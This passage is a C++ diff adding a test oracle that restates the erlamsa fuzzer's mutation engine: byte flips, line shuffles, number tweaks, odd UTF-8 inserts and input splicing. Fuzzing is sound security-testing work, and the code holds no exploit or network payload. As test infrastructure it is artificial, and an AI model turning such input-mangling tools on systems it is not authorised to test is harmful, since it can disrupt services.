@@ -1,0 +1,1580 @@
+// ORACLE — TEST INFRASTRUCTURE ONLY (see oracle.h).  Single-threaded C++17
+// restatement, function by function, of the reference's batch fuzz-case path.
+// Every function cites the reference file:line it follows (paths relative to
+// /root/reference/src).  Erlang lists are std::vector, binaries are Bytes,
+// process crashes are otp::ErlCrash.
+//
+// PARITY UNPINNED (no Erlang runtime on this image; reference tests pin no
+// byte-exact vectors).  What IS pinned: tests/test_oracle_*.py re-express the
+// reference's own eunit properties (erlamsa_mutations_test.erl) against this
+// code, plus hand-derived AS183 known answers.
+#include "oracle.h"
+
+#include <algorithm>
+#include <cstdio>
+#include <cstdlib>
+#include <map>
+#include <memory>
+#include <sstream>
+
+#include "otp_compat.h"
+
+using otp::Big;
+using otp::ErlCrash;
+typedef std::vector<uint8_t> Bytes;
+typedef std::vector<Bytes> BList;  // [binary()]
+
+namespace {
+
+// erlamsa.hrl:44-58
+const int INITIAL_IP = 24;
+const size_t AVG_BLOCK_SIZE = 2048;
+const size_t MIN_BLOCK_SIZE = 256;
+const size_t MAX_BLOCK_SIZE = 2 * AVG_BLOCK_SIZE;
+const size_t ABSMAXHALF_BINARY_BLOCK = 500000;
+const size_t ABSMAX_BINARY_BLOCK = 2 * ABSMAXHALF_BINARY_BLOCK;
+const size_t SIZER_MAX_FIRST_BYTES = 512;
+const size_t PREAMBLE_MAX_BYTES = 32;
+
+struct Overflow {};     // engine cap exceeded (not a reference behaviour)
+struct Unsupported {};  // container success paths (zip/zlib re-encode) not restated
+
+// ===========================================================================
+// erlamsa_rnd.erl
+// ===========================================================================
+struct Rnd {
+  otp::Random r;
+  void seed(int64_t a, int64_t b, int64_t c) { r.seed(a, b, c); }            // :72
+  uint64_t rand(uint64_t n) { return n == 0 ? 0 : r.uniform_n(n) - 1; }       // :77
+  uint64_t erand(uint64_t n) { return n == 0 ? 0 : r.uniform_n(n); }          // :82
+  uint64_t rand_range(int64_t l, int64_t rr) {                                // :87-92
+    if (rr > l) return rand((uint64_t)(rr - l)) + (uint64_t)l;
+    if (rr == l) return (uint64_t)l;
+    return 0;
+  }
+  double rand_float() { return r.uniform(); }                                 // :101
+  int rand_bit() { return r.uniform() >= 0.5 ? 1 : 0; }                       // :105 round/1
+  bool rand_occurs_fixed(uint64_t nom, uint64_t denom) {                      // :123-130
+    uint64_t n = rand(denom);
+    if (nom == 1) return n != 0;
+    return n < nom;
+  }
+  // rand(N) for bignum N: trunc(uniform() * float(N))  (random:uniform/1)
+  Big rand_big(const Big& n) {
+    if (n.is_zero()) return Big();
+    double f;
+    if (!n.to_double(&f)) throw ErlCrash("badarith: float overflow in rand/1");
+    volatile double x = r.uniform() * f;
+    return Big::from_double_trunc((double)x);
+  }
+  Big rand_nbit(uint64_t n) {                                                 // :134-137
+    if (n == 0) return Big();
+    Big hi = Big::pow2((unsigned)(n - 1));
+    return hi.bor(rand_big(hi));
+  }
+  Big rand_log(uint64_t n) {                                                  // :141-143
+    if (n == 0) return Big();
+    return rand_nbit(rand(n));
+  }
+  uint64_t rand_log_small(uint64_t n) {  // n <= 63 so the value fits
+    Big b = rand_log(n); int64_t v = 0; b.fits_i64(&v); return (uint64_t)v;
+  }
+  // rand_elem index (0-based) or -1 for [] (no draw)                          :148-151
+  int64_t rand_elem_idx(size_t len) { return len == 0 ? -1 : (int64_t)(r.uniform_n(len) - 1); }
+  Bytes random_block(size_t n) {                                              // :165,173-174
+    Bytes out(n);
+    for (size_t i = 0; i < n; i++) out[n - 1 - i] = (uint8_t)rand(256);  // prepend => first draw is last byte
+    return out;
+  }
+  int rand_delta() { return rand_bit() == 0 ? +1 : -1; }                      // :224-231
+  // random_permutation/1 :190-196 over element indices; `less` = Erlang term order on elements
+  template <class T, class Less>
+  std::vector<T> random_permutation(const std::vector<T>& l, Less less) {
+    if (l.size() == 2) {
+      if (rand(2) == 1) return std::vector<T>{l[1], l[0]};
+      return l;
+    }
+    std::vector<std::pair<double, size_t>> keyed;
+    for (size_t i = 0; i < l.size(); i++) keyed.push_back({r.uniform(), i});
+    std::stable_sort(keyed.begin(), keyed.end(), [&](const std::pair<double, size_t>& a, const std::pair<double, size_t>& b) {
+      if (a.first != b.first) return a.first < b.first;
+      return less(l[a.second], l[b.second]);
+    });
+    std::vector<T> out;
+    for (auto& k : keyed) out.push_back(l[k.second]);
+    return out;
+  }
+  // reservoir_sample/2 :201-214 (returns indices into l)
+  std::vector<size_t> reservoir_sample_idx(size_t n, size_t k) {
+    std::vector<size_t> res;
+    if (k >= n) { for (size_t i = 0; i < n; i++) res.push_back(i); return res; }
+    for (size_t i = 0; i < k; i++) res.push_back(i);
+    for (size_t i = k + 1; i <= n; i++) {
+      uint64_t j = erand(i);
+      if (j <= k) res[j - 1] = i - 1;
+    }
+    return res;
+  }
+};
+
+// ===========================================================================
+// erlamsa_utils.erl (hot subset)
+// ===========================================================================
+bool binarish(const uint8_t* p, size_t n) {                                   // :238-247
+  for (size_t pos = 0;; pos++) {
+    const uint8_t* t = p + pos; size_t rem = n - pos;
+    if (rem >= 3 && t[0] == 0xEF && t[1] == 0xBB && t[2] == 0xBF) return false;
+    if (rem >= 2 && t[0] == 0xFE && t[1] == 0x0F) return false;
+    if (pos == 8) return false;
+    if (rem == 0) return false;
+    if (t[0] == 0) return true;
+    if (t[0] & 128) return true;
+  }
+}
+bool binarish(const Bytes& b) { return binarish(b.data(), b.size()); }
+
+BList flush_bvecs(const Bytes& bin, const BList& tail) {                      // :169-175
+  BList out; size_t len = bin.size(), pos = 0;
+  while (len >= AVG_BLOCK_SIZE) { out.emplace_back(bin.begin() + pos, bin.begin() + pos + AVG_BLOCK_SIZE); pos += AVG_BLOCK_SIZE; len -= AVG_BLOCK_SIZE; }
+  out.emplace_back(bin.begin() + pos, bin.end());
+  out.insert(out.end(), tail.begin(), tail.end());
+  return out;
+}
+void halve(const Bytes& l, Bytes* a, Bytes* b) {                              // :137-146
+  size_t h = l.size() / 2; a->assign(l.begin(), l.begin() + h); b->assign(l.begin() + h, l.end());
+}
+
+// erlamsa_utils:sort_by_priority/1 :113-117 + choose_pri/2 :155-161
+struct PriItem { int pri; int id; };
+std::vector<PriItem> sort_by_priority(const std::vector<PriItem>& l, int* total) {
+  otp::ListsSort<PriItem> s([](const PriItem& a, const PriItem& b) { return a.pri > b.pri; });
+  std::vector<PriItem> sl = s.sort(l);
+  int n = 0; for (auto& e : sl) n += e.pri; *total = n; return sl;
+}
+int choose_pri(const std::vector<PriItem>& l, int64_t n) {
+  for (size_t i = 0; i < l.size(); i++) {
+    if (n == 0) return l[i].id;
+    if (n < l[i].pri) return l[i].id;
+    n -= l[i].pri;
+  }
+  throw ErlCrash("function_clause: choose_pri");
+}
+
+// ===========================================================================
+// Mutator table (erlamsa_mutations.erl:1290-1332)
+// ===========================================================================
+enum MutaId {
+  M_SGM, M_JS, M_UW, M_UI, M_AB, M_AD, M_TR2, M_TD, M_NUM, M_TS1, M_TR, M_TS2, M_BD, M_BEI, M_BED,
+  M_BF, M_BI, M_BER, M_BR, M_SP, M_SR, M_SD, M_SNAND, M_SRND, M_LD, M_LDS, M_LR2, M_LRI, M_LR,
+  M_LS, M_LP, M_LIS, M_LRS, M_FT, M_FN, M_FO, M_LEN, M_B64, M_URI, M_ZIP, M_NIL, M_COUNT
+};
+struct MutaDef { const char* name; int pri; };
+const MutaDef MUTA_TABLE[M_COUNT] = {
+    {"sgm", 10}, {"js", 3},  {"uw", 1},   {"ui", 2},    {"ab", 1},  {"ad", 1},  {"tr2", 1}, {"td", 1},
+    {"num", 3},  {"ts1", 2}, {"tr", 2},   {"ts2", 2},   {"bd", 1},  {"bei", 1}, {"bed", 1}, {"bf", 1},
+    {"bi", 1},   {"ber", 1}, {"br", 1},   {"sp", 1},    {"sr", 1},  {"sd", 1},  {"snand", 1}, {"srnd", 1},
+    {"ld", 1},   {"lds", 1}, {"lr2", 1},  {"lri", 1},   {"lr", 1},  {"ls", 1},  {"lp", 1},  {"lis", 1},
+    {"lrs", 1},  {"ft", 2},  {"fn", 1},   {"fo", 2},    {"len", 2}, {"b64", 7}, {"uri", 1}, {"zip", 1},
+    {"nil", 0}};
+
+// A stored-line element of the lis/lrs state (erlamsa_generic.erl:123-139): a
+// list whose items are bytes or (after an update) one nested line at the head.
+struct StItem { bool nested; uint8_t b; Bytes line; };
+typedef std::vector<StItem> StLine;
+
+// One entry {Score, Pri, Fun, Name} of the mux_fuzzers list; `fn` is the current
+// function value (it can change: uri -> base64_mutator, fo -> remember(Block)).
+struct Muta {
+  double score; int pri; int name; int fn;
+  int mask_fun = 0;                 // snand: 0 nand,1 or,2 xor ; srnd: 3 replace (fixed at table build :311-312)
+  std::vector<StLine> st_lines; int st_count = 0;   // lis/lrs state [Count|Lines]
+  bool fo_has = false; Bytes fo_block;               // fo: remember(Block)
+};
+
+struct Config {
+  std::vector<std::pair<int, int>> mutations;  // (MutaId, pri) as a map
+  std::vector<std::pair<int, int>> patterns;
+  std::vector<std::pair<std::string, int>> generators;
+  double blockscale = 1.0;
+  std::string ssrf_host = "localhost"; int ssrf_port = 51234;
+  uint64_t max_case_bytes = 0;
+};
+
+struct Case;  // fwd
+
+// ===========================================================================
+// Worker context for one case: PRNG + mutator list + trace
+// ===========================================================================
+struct Ctx {
+  Rnd rnd;
+  const Config* cfg;
+  std::vector<Muta> fs;  // the mux_fuzzers list, in list order
+  std::string* trace = nullptr;
+  Bytes out;             // blocks already written by blocks_port
+  void t(const char* tag, const char* name) { if (trace) { trace->append(tag); trace->push_back(':'); trace->append(name); trace->push_back(' '); } }
+  void check_cap(size_t n) { if (cfg->max_case_bytes && n > cfg->max_case_bytes) throw Overflow(); }
+};
+
+// ---------------------------------------------------------------------------
+// erlamsa_mutations.erl:56-61 edit_byte_vector + 176-223 single-byte mutators
+// ---------------------------------------------------------------------------
+int sed_byte_muta(Ctx& c, BList& ll, int id) {                                // :176-181
+  Bytes& h = ll[0];
+  uint64_t p = c.rnd.rand(h.size());
+  int d = c.rnd.rand_delta();
+  if (h.empty()) return d;                                                    // :57
+  uint8_t b = h[p];
+  switch (id) {
+    case M_BD: h.erase(h.begin() + p); break;                                 // :184
+    case M_BEI: h[p] = (uint8_t)(b + 1); break;                               // :188
+    case M_BED: h[p] = (uint8_t)(b - 1); break;                               // :192
+    case M_BR: h.insert(h.begin() + p, b); break;                             // :196
+    case M_BF: h[p] = (uint8_t)(b ^ (1u << c.rnd.rand(8))); break;            // :200-207
+    case M_BI: h.insert(h.begin() + p, (uint8_t)c.rnd.rand(256)); break;      // :210-215 <<New, B>>
+    case M_BER: h[p] = (uint8_t)c.rnd.rand(256); break;                       // :218-223
+  }
+  return d;
+}
+
+// ---------------------------------------------------------------------------
+// erlamsa_mutations.erl:232-318 multi-byte mutators
+// ---------------------------------------------------------------------------
+Bytes randmask(Ctx& c, int mask_fun, const Bytes& bs) {                       // :281-307
+  uint64_t prob = c.rnd.erand(100);
+  bool occ = c.rnd.rand_occurs_fixed(prob, 100);
+  Bytes out;
+  for (uint8_t b : bs) {
+    // argument evaluation order of randmask_loop/5 call (:291,293): the NEXT
+    // rand_occurs_fixed is drawn before MaskFun(H).
+    bool next = c.rnd.rand_occurs_fixed(prob, 100);
+    if (occ) {
+      switch (mask_fun) {
+        case 0: b = (uint8_t)(b & ~(1u << c.rnd.rand(8))); break;             // mask_nand :295
+        case 1: b = (uint8_t)(b | (1u << c.rnd.rand(8))); break;              // mask_or   :299
+        case 2: b = (uint8_t)(b ^ (1u << c.rnd.rand(8))); break;              // mask_xor  :303
+        default: b = (uint8_t)c.rnd.rand(256); break;                         // mask_replace :306
+      }
+    }
+    out.push_back(b);
+    occ = next;
+  }
+  return out;
+}
+
+int sed_bytes_muta(Ctx& c, BList& ll, const Muta& m) {                        // :232-249
+  Bytes& bvec = ll[0];
+  if (bvec.empty()) return -1;
+  size_t bsize = bvec.size();
+  size_t s = c.rnd.rand(bsize);
+  size_t l = c.rnd.rand_range(1, (int64_t)(bsize - s + 1));
+  Bytes h(bvec.begin(), bvec.begin() + s), p(bvec.begin() + s, bvec.begin() + s + l), t(bvec.begin() + s + l, bvec.end());
+  Bytes cc;
+  switch (m.fn) {
+    case M_SP: {                                                              // :253-260
+      std::vector<uint8_t> perm = c.rnd.random_permutation(p, [](uint8_t a, uint8_t b) { return a < b; });
+      cc = perm; break;
+    }
+    case M_SR: {                                                              // :263-270
+      uint64_t n = std::max<uint64_t>(2, c.rnd.rand_log_small(10));
+      c.check_cap(h.size() + p.size() * n + t.size());
+      for (uint64_t i = 0; i < n; i++) cc.insert(cc.end(), p.begin(), p.end());
+      break;
+    }
+    case M_SD: break;                                                         // :273-276
+    case M_SNAND: case M_SRND: cc = randmask(c, m.mask_fun, p); break;        // :311-318
+  }
+  Bytes res = h; res.insert(res.end(), cc.begin(), cc.end()); res.insert(res.end(), t.begin(), t.end());
+  bvec.swap(res);
+  return c.rnd.rand_delta();
+}
+
+// ---------------------------------------------------------------------------
+// UTF-8 (erlamsa_mutations.erl:1029-1099)
+// ---------------------------------------------------------------------------
+std::vector<Bytes> make_funny_unicode() {                                     // :1053-1078
+  std::vector<Bytes> manual = {{239, 191, 191}, {240, 144, 128, 128}, {0xef, 0xbb, 0xbf}, {0xfe, 0xff}, {0xff, 0xfe},
+                               {0, 0, 0xff, 0xff}, {0xff, 0xff, 0, 0}, {43, 47, 118, 56}, {43, 47, 118, 57}, {43, 47, 118, 43},
+                               {43, 47, 118, 47}, {247, 100, 76}, {221, 115, 102, 115}, {14, 254, 255}, {251, 238, 40},
+                               {251, 238, 40, 255}, {132, 49, 149, 51}};
+  struct R { uint32_t a, b; };
+  std::vector<R> codes = {{0x9, 0xd}, {0x8D, 0x8D}, {0xa0, 0xa0}, {0x1680, 0x1680}, {0x180e, 0x180e}, {0x2000, 0x200a},
+                          {0x2028, 0x2028}, {0x2029, 0x2029}, {0x202f, 0x202f}, {0x205f, 0x205f}, {0x3000, 0x3000},
+                          {0x200e, 0x200f}, {0x202a, 0x202e}, {0x200c, 0x200d}, {0x0345, 0x0345}, {0x00b7, 0x00b7},
+                          {0x02d0, 0x02d1}, {0xff70, 0xff70}, {0x02b0, 0x02b8}, {0xfdd0, 0xfdd0}, {0x034f, 0x034f},
+                          {0x115f, 0x1160}, {0x2065, 0x2069}, {0x3164, 0x3164}, {0xffa0, 0xffa0}, {0xe0001, 0xe0001},
+                          {0xe0020, 0xe007f}, {0x0e40, 0x0e44}, {0x1f4a9, 0x1f4a9}};
+  std::vector<uint32_t> numbers;  // foldl with prepend: groups reversed, each range ascending
+  for (size_t i = codes.size(); i-- > 0;) for (uint32_t x = codes[i].a; x <= codes[i].b; x++) numbers.push_back(x);
+  auto ext = [](uint32_t n) { return (uint8_t)((n & 0x3f) | 0x80); };         // :1034-1036
+  for (uint32_t p : numbers) {                                                // encode_point :1038-1051
+    Bytes e;
+    if (p < 0x80) e = {(uint8_t)p};
+    else if (p < 0x800) e = {(uint8_t)(0xc0 | (0x1f & (p >> 6))), ext(p)};
+    else if (p < 0x10000) e = {(uint8_t)(0xe0 | (0x0f & (p >> 12))), ext(p >> 6), ext(p)};
+    else e = {(uint8_t)(0xf0 | (0x7 & (p >> 18))), ext(p >> 12), ext(p >> 6), ext(p)};
+    manual.push_back(e);
+  }
+  return manual;
+}
+const std::vector<Bytes>& funny_unicode() { static std::vector<Bytes> v = make_funny_unicode(); return v; }
+
+int sed_utf8_widen(Ctx& c, BList& ll) {                                       // :1081-1089
+  Bytes& h = ll[0];
+  uint64_t p = c.rnd.rand(h.size());
+  int d = c.rnd.rand_delta();
+  if (h.empty()) return d;
+  uint8_t b = h[p];
+  if (b == (b & 0x3f)) { h[p] = 0xC0; h.insert(h.begin() + p + 1, (uint8_t)(b | 0x80)); }
+  return d;
+}
+int sed_utf8_insert(Ctx& c, BList& ll) {                                      // :1092-1099
+  Bytes& h = ll[0];
+  uint64_t p = c.rnd.rand(h.size());
+  int d = c.rnd.rand_delta();
+  const Bytes& bin = funny_unicode()[c.rnd.rand_elem_idx(funny_unicode().size())];
+  if (h.empty()) return d;
+  h.insert(h.begin() + p + 1, bin.begin(), bin.end());
+  return d;
+}
+
+// ---------------------------------------------------------------------------
+// Number mutator (erlamsa_mutations.erl:63-169)
+// ---------------------------------------------------------------------------
+const std::vector<Big>& interesting_numbers() {                               // :68-75
+  static std::vector<Big> v;
+  if (v.empty()) {
+    const int is[] = {1, 7, 8, 15, 16, 31, 32, 63, 64, 127, 128};
+    for (int k = 10; k >= 0; k--) { Big x = Big::pow2(is[k]); v.push_back(x - Big(1)); v.push_back(x); v.push_back(x + Big(1)); }
+  }
+  return v;
+}
+Big mutate_num(Ctx& c, const Big& num) {                                      // :90-112
+  uint64_t n = c.rnd.rand(12);
+  const auto& in = interesting_numbers();
+  switch (n) {
+    case 0: return num + Big(1);
+    case 1: return num - Big(1);
+    case 2: return Big(0);
+    case 3: return Big(1);
+    case 4: case 5: return in[c.rnd.rand_elem_idx(in.size())];
+    case 7: return num + in[c.rnd.rand_elem_idx(in.size())];
+    case 8: return num - in[c.rnd.rand_elem_idx(in.size())];
+    case 9: { Big r = c.rnd.rand_big(num.abs().mul_small(2)); return num.neg ? num + r : num - r; }  // sign(X>=0)=1
+    case 10: return -num;
+    default: {
+      uint64_t nn = c.rnd.rand_range(1, 129);
+      Big l = c.rnd.rand_log(nn);
+      uint64_t s = c.rnd.rand(3);
+      return s == 0 ? num - l : num + l;
+    }
+  }
+}
+// get_num/1 :114-125 ; returns consumed length (0 = false)
+bool get_num(const Bytes& b, size_t pos, Big* val, size_t* end) {
+  Big n; size_t digits = 0; int sign = 1; size_t i = pos;
+  for (; i < b.size(); i++) {
+    uint8_t d = b[i];
+    if (d >= 48 && d <= 57) { n.mul10_add(d - 48); digits++; }
+    else if (d == 45 && digits == 0) sign = -1;
+    else break;
+  }
+  if (digits == 0) return false;
+  n.trim(); if (sign < 0) n = -n;
+  *val = n; *end = i; return true;
+}
+int sed_num(Ctx& c, BList& ll) {                                              // :127-169
+  Bytes h = ll[0];
+  // mutate_a_num/2: scan left to right collecting number spans; Which is drawn at the end.
+  struct Span { size_t a, b; Big v; };
+  std::vector<Span> found;
+  for (size_t i = 0; i < h.size();) {
+    Big v; size_t e;
+    if (get_num(h, i, &v, &e)) { found.push_back({i, e, v}); i = e; } else i++;
+  }
+  uint64_t which = c.rnd.rand(found.size());
+  int64_t n_ret = 0; Bytes lst = h;
+  if (!found.empty()) {
+    const Span& sp = found[found.size() - 1 - which];   // Which counts from the last number
+    Big nn = mutate_num(c, sp.v);
+    std::string s = nn.to_dec();
+    lst.assign(h.begin(), h.begin() + sp.a); lst.insert(lst.end(), s.begin(), s.end()); lst.insert(lst.end(), h.begin() + sp.b, h.end());
+    n_ret = -1;  // (< 0; the exact negative value is irrelevant)
+  }
+  bool isbin = binarish(lst);
+  BList tail(ll.begin() + 1, ll.end());
+  ll = flush_bvecs(lst, tail);
+  if (n_ret == 0) { uint64_t r = c.rnd.rand(10); return r == 0 ? -1 : 0; }
+  return isbin ? -1 : +2;
+}
+
+// ---------------------------------------------------------------------------
+// Lines (erlamsa_mutations.erl:320-378, erlamsa_generic.erl)
+// ---------------------------------------------------------------------------
+std::vector<Bytes> lines(const Bytes& b) {                                    // :326-331
+  std::vector<Bytes> out; Bytes cur;
+  for (uint8_t x : b) { cur.push_back(x); if (x == 10) { out.push_back(cur); cur.clear(); } }
+  if (!cur.empty()) out.push_back(cur);
+  return out;
+}
+bool try_lines(const Bytes& b, std::vector<Bytes>* ls) {                      // :341-348
+  *ls = lines(b);
+  if (ls->empty()) return false;
+  if (binarish(b)) return false;
+  return true;
+}
+Bytes unlines(const std::vector<Bytes>& l) { Bytes o; for (auto& x : l) o.insert(o.end(), x.begin(), x.end()); return o; }
+
+bool bytes_less(const Bytes& a, const Bytes& b) { return std::lexicographical_compare(a.begin(), a.end(), b.begin(), b.end()); }
+
+void line_op(Ctx& c, int fn, std::vector<Bytes>& l) {
+  size_t len = l.size();
+  switch (fn) {
+    case M_LD: { uint64_t p = c.rnd.erand(len); l.erase(l.begin() + (p - 1)); break; }        // list_del :54-57
+    case M_LDS: {                                                                           // list_del_seq :61-66
+      uint64_t start = c.rnd.erand(len);
+      uint64_t n = c.rnd.erand(len - start + 1);
+      // applynth(Start, L, fun(_,R) -> lists:sublist(R, N, Len)): drop element Start and the first N-1 of R
+      std::vector<Bytes> out(l.begin(), l.begin() + (start - 1));
+      size_t from = start + (n - 1);
+      if (from < len) out.insert(out.end(), l.begin() + from, l.end());
+      l.swap(out); break;
+    }
+    case M_LR2: { uint64_t p = c.rnd.erand(len); l.insert(l.begin() + (p - 1), l[p - 1]); break; }  // list_dup :70-73
+    case M_LR: {                                                                            // list_repeat :77-82
+      uint64_t p = c.rnd.erand(len);
+      uint64_t n = std::max<uint64_t>(2, c.rnd.rand_log_small(10));
+      Bytes e = l[p - 1];
+      l.insert(l.begin() + (p - 1), n - 1, e); break;
+    }
+    case M_LRI: {                                                                           // list_clone :86-91
+      uint64_t from = c.rnd.erand(len), to = c.rnd.erand(len);
+      Bytes e = l[from - 1]; l[to - 1] = e; break;
+    }
+    case M_LS: {                                                                            // list_swap :95-100
+      if (len < 2) break;
+      uint64_t p = c.rnd.erand(len - 1); std::swap(l[p - 1], l[p]); break;
+    }
+    case M_LP: {                                                                            // list_perm :105-116
+      if (len < 3) break;
+      uint64_t from = c.rnd.erand(len - 1);
+      uint64_t a = c.rnd.rand_range(2, (int64_t)(len - from));
+      uint64_t b = c.rnd.rand_log_small(10);
+      uint64_t n = std::max<uint64_t>(2, std::min(a, b));
+      if (from - 1 + n > len) throw ErlCrash("badarg: lists:split");
+      std::vector<Bytes> seg(l.begin() + (from - 1), l.begin() + (from - 1) + n);
+      std::vector<Bytes> perm = c.rnd.random_permutation(seg, bytes_less);
+      std::copy(perm.begin(), perm.end(), l.begin() + (from - 1)); break;
+    }
+  }
+}
+int line_muta(Ctx& c, BList& ll, int fn) {                                    // construct_line_muta :351-362
+  std::vector<Bytes> ls;
+  if (!try_lines(ll[0], &ls)) return -1;
+  line_op(c, fn, ls);
+  ll[0] = unlines(ls);
+  return 1;
+}
+Bytes stline_flat(const StLine& s) { Bytes o; for (auto& it : s) { if (it.nested) o.insert(o.end(), it.line.begin(), it.line.end()); else o.push_back(it.b); } return o; }
+StLine stline_of(const Bytes& b) { StLine s; for (uint8_t x : b) s.push_back({false, x, {}}); return s; }
+int st_line_muta(Ctx& c, BList& ll, Muta& m) {                                // construct_st_line_muta :366-378
+  std::vector<Bytes> ls;
+  if (!try_lines(ll[0], &ls)) return -1;
+  size_t n = ls.size();
+  // step_state/3 erlamsa_generic.erl:123-139
+  if (m.st_count < 10) {
+    while (m.st_count < 10) { uint64_t p = c.rnd.erand(n); m.st_lines.insert(m.st_lines.begin(), stline_of(ls[p - 1])); m.st_count++; }
+  } else {
+    uint64_t up = c.rnd.erand(20);
+    if (up < 10) {
+      uint64_t ep = c.rnd.erand(n);
+      StLine& e = m.st_lines[up - 1];  // applynth(Up+1, [Count|Lines]) -> Lines[Up-1]
+      if (e.empty()) throw ErlCrash("function_clause: step_state");
+      e.erase(e.begin()); e.insert(e.begin(), StItem{true, 0, ls[ep - 1]});
+    }
+  }
+  uint64_t pk = c.rnd.erand((uint64_t)m.st_count);                             // pick_state :141-143
+  Bytes x = stline_flat(m.st_lines[pk - 1]);
+  uint64_t p = c.rnd.erand(n);                                                // st_list_mod :146-152
+  if (m.fn == M_LIS) ls.insert(ls.begin() + (p - 1), x);                      // st_list_ins :156-157  [X, T | R]
+  else ls[p - 1] = x;                                                         // st_list_replace :161-162
+  ll[0] = unlines(ls);
+  return 1;
+}
+
+// ---------------------------------------------------------------------------
+// erlamsa_fuse.erl
+// ---------------------------------------------------------------------------
+// Suffixes are represented by their start position in A (sources) or B
+// (targets); position == size is the empty suffix [].
+struct FuseNode { std::vector<size_t> froms, tos; };
+typedef std::map<uint8_t, std::vector<size_t>> CharSufs;
+CharSufs char_suffixes(const Bytes& s, const std::vector<size_t>& sufs) {     // :62-71
+  CharSufs m;
+  for (size_t p : sufs) {
+    if (p >= s.size()) continue;                    // ([], Subs) -> Subs
+    std::vector<size_t>& v = m[s[p]];               // get(H, [], Subs)
+    v.insert(v.begin(), p + 1);                     // [T | ...]
+    if (v.size() == 1 && v[0] == s.size()) v.clear();  // fix_empty_list([[]]) -> []
+  }
+  return m;
+}
+void fuse_split(const Bytes& a, const Bytes& b, const FuseNode& nd, std::vector<FuseNode>& acc) {  // split/2 :85-100
+  CharSufs sas = char_suffixes(a, nd.froms), sbs = char_suffixes(b, nd.tos);
+  for (auto& kv : sas) {  // gb_trees:to_list ascending
+    if (kv.second.empty()) { acc.insert(acc.begin(), FuseNode{{a.size()}, {b.size()}}); continue; }  // [[[[]], []] | Tl]
+    auto it = sbs.find(kv.first);
+    if (it == sbs.end()) continue;
+    acc.insert(acc.begin(), FuseNode{kv.second, it->second});
+  }
+}
+Bytes fuse(Ctx& c, const Bytes& al, const Bytes& bl) {                        // fuse/2 :131-134
+  if (al.empty()) return bl;
+  if (bl.empty()) return al;
+  std::vector<FuseNode> nodes(1);                                             // find_jump_points :103-107
+  for (size_t i = 0; i < al.size(); i++) nodes[0].froms.push_back(i);         // suffixes/1 :53-56 (non-empty ones)
+  for (size_t i = 0; i < bl.size(); i++) nodes[0].tos.push_back(i);
+  int64_t fuel = 100000;
+  while (true) {                                                              // find_jump_points_loop :115-128
+    if (fuel < 0) break;
+    if (c.rnd.rand(8) == 0) break;
+    std::vector<FuseNode> nd;
+    for (auto& n : nodes) fuse_split(al, bl, n, nd);
+    if (nd.empty()) break;
+    fuel -= (int64_t)nd.size();
+    nodes.swap(nd);
+  }
+  // any_position_pair/1 :73-77
+  const FuseNode& n = nodes[c.rnd.rand_elem_idx(nodes.size())];
+  int64_t fi = c.rnd.rand_elem_idx(n.froms.size());
+  int64_t ti = c.rnd.rand_elem_idx(n.tos.size());
+  size_t from = fi < 0 ? al.size() : n.froms[fi];   // rand_elem([]) = [] = empty suffix
+  size_t to = ti < 0 ? bl.size() : n.tos[ti];
+  Bytes out(al.begin(), al.begin() + from);                                   // jump/3 :47-50
+  out.insert(out.end(), bl.begin() + to, bl.end());
+  return out;
+}
+int sed_fuse_this(Ctx& c, BList& ll) {                                        // erlamsa_mutations.erl:386-390
+  ll[0] = fuse(c, ll[0], ll[0]);
+  return c.rnd.rand_delta();
+}
+int sed_fuse_next(Ctx& c, BList& ll) {                                        // :393-402
+  Bytes h = ll[0], a1, a2; halve(h, &a1, &a2);
+  Bytes b; BList rest;
+  if (ll.size() > 1) { b = ll[1]; rest.assign(ll.begin() + 2, ll.end()); } else b = h;   // uncons(T, H)
+  Bytes abl = fuse(c, a1, b);
+  Bytes abal = fuse(c, abl, a2);
+  int d = c.rnd.rand_delta();
+  ll = flush_bvecs(abal, rest);
+  return d;
+}
+int sed_fuse_old(Ctx& c, BList& ll, Muta& m) {                                // :405-427
+  if (!m.fo_has) { m.fo_block = ll[0]; m.fo_has = true; }                     // sed_fuse_old -> remember(H)
+  Bytes h = ll[0], a1, a2, o1, o2; halve(h, &a1, &a2); halve(m.fo_block, &o1, &o2);
+  Bytes a = fuse(c, a1, o1);
+  Bytes b = fuse(c, o2, a2);
+  uint64_t swap = c.rnd.rand(3);
+  int d = c.rnd.rand_delta();
+  if (swap == 0) m.fo_block = h;
+  BList t(ll.begin() + 1, ll.end());
+  ll = flush_bvecs(a, flush_bvecs(b, t));
+  return d;
+}
+
+// ---------------------------------------------------------------------------
+// Guessed parse-tree mutations (erlamsa_mutations.erl:787-1023)
+// ---------------------------------------------------------------------------
+struct Term;  // byte | list
+typedef std::shared_ptr<const Term> TermP;
+struct Term { bool is_list; uint8_t b; std::vector<TermP> kids; };
+TermP mk_byte(uint8_t b) { auto t = std::make_shared<Term>(); t->is_list = false; t->b = b; return t; }
+TermP mk_list(std::vector<TermP> k) { auto t = std::make_shared<Term>(); t->is_list = true; t->b = 0; t->kids = std::move(k); return t; }
+bool term_eq(const TermP& a, const TermP& b) {
+  if (a.get() == b.get()) return true;
+  if (a->is_list != b->is_list) return false;
+  if (!a->is_list) return a->b == b->b;
+  if (a->kids.size() != b->kids.size()) return false;
+  for (size_t i = 0; i < a->kids.size(); i++) if (!term_eq(a->kids[i], b->kids[i])) return false;
+  return true;
+}
+// Erlang term order restricted to {integer, list}: number < list; lists compare elementwise, [] < [_|_]
+int term_cmp(const TermP& a, const TermP& b) {
+  if (!a->is_list && !b->is_list) return a->b < b->b ? -1 : (a->b > b->b ? 1 : 0);
+  if (!a->is_list) return -1;
+  if (!b->is_list) return 1;
+  size_t n = std::min(a->kids.size(), b->kids.size());
+  for (size_t i = 0; i < n; i++) { int c = term_cmp(a->kids[i], b->kids[i]); if (c) return c; }
+  return a->kids.size() < b->kids.size() ? -1 : (a->kids.size() > b->kids.size() ? 1 : 0);
+}
+void term_flatten(const TermP& t, Bytes& out) { if (!t->is_list) out.push_back(t->b); else for (auto& k : t->kids) term_flatten(k, out); }
+void terms_flatten(const std::vector<TermP>& l, size_t from, Bytes& out) { for (size_t i = from; i < l.size(); i++) term_flatten(l[i], out); }
+
+int usual_delims(uint8_t c) {                                                 // :791-798
+  switch (c) { case 40: return 41; case 91: return 93; case 60: return 62; case 123: return 125; case 34: return 34; case 39: return 39; }
+  return -1;
+}
+// grow/3 :800-823.  Returns true if closed; `out` = node contents (without the opener); pos advanced.
+bool grow(const Bytes& in, size_t& pos, uint8_t close, std::vector<TermP>& out) {
+  while (true) {
+    if (pos >= in.size()) return false;
+    uint8_t h = in[pos];
+    if (h == close) { out.push_back(mk_byte(close)); pos++; return true; }
